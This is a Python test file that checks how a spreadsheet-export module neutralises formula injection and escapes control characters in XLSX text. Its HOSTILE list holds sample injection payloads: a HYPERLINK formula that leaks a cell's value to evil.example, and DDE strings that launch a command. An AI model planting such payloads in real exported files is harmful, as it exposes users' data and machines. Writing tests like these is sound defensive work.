"""The one rule for text in spreadsheet cells: no formula on export, the exact text back on import."""

from hypothesis import given, settings
from hypothesis import strategies as st

from partnership.spreadsheet_cells import FORMULA_STARTS, from_xlsx_text, neutralise, restore, xlsx_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_a_formula_becomes_text_behind_one_quote():
    for text in HOSTILE:
        assert neutralise(text) == "'" + text


def test_text_that_starts_with_a_quote_is_escaped_too_and_plain_text_is_left_alone():
    assert neutralise("'=1+1") == "''=1+1"
    assert neutralise("'quoted'") == "''quoted'"
    assert neutralise("Joint report") == "Joint report"
    assert neutralise("＝全角") == "＝全角"
    assert neutralise("") == ""


def test_a_plain_number_stays_a_number_and_other_values_pass_through():
    assert [neutralise(text) for text in ("-3", "+1.5", "42")] == ["-3", "+1.5", "42"]
    assert neutralise("-3e5") == "'-3e5"  # an exponent is how a formula can hide: text
    assert neutralise("-٣") == "'-٣"  # not ASCII digits: not a number a spreadsheet computes
    assert neutralise(46) == 46 and neutralise(None) is None


def test_import_removes_only_a_neutralising_quote():
    assert restore("'=1+1") == "=1+1"
    assert restore("''quoted'") == "'quoted'"
    assert restore("'-5 km") == "-5 km"
    # A quote before anything else was typed by the author: kept.
    assert restore("'tis the season") == "'tis the season"
    assert restore("'") == "'"
    assert restore("=1+1") == "=1+1"


@settings(max_examples=500)
@given(st.text())
def test_no_neutralised_text_starts_a_formula_and_every_text_comes_back(text):
    written = neutralise(text)
    assert not written.startswith(FORMULA_STARTS) or written.lstrip("+-").replace(".", "", 1).isdecimal()
    assert restore(written) == text


@settings(max_examples=500)
@given(st.text(alphabet=st.sampled_from("_x0D1Fa\r\x00\x01\x0b\ufffe\uffff\n\t'=")) | st.text())
def test_xlsx_escapes_come_back_exactly(text):
    written = xlsx_text(text)
    assert not any(ord(char) < 32 and char not in "\t\n" for char in written)
    assert "\ufffe" not in written and "\uffff" not in written
    assert from_xlsx_text(written) == text


def test_xlsx_escapes_are_those_excel_writes():
    assert xlsx_text("a\r\nb") == "a_x000D_\nb"
    assert xlsx_text("_x000D_") == "_x005F_x000D_"
    assert from_xlsx_text("_x005F_x000D_ and _x000d_") == "_x000D_ and \r"
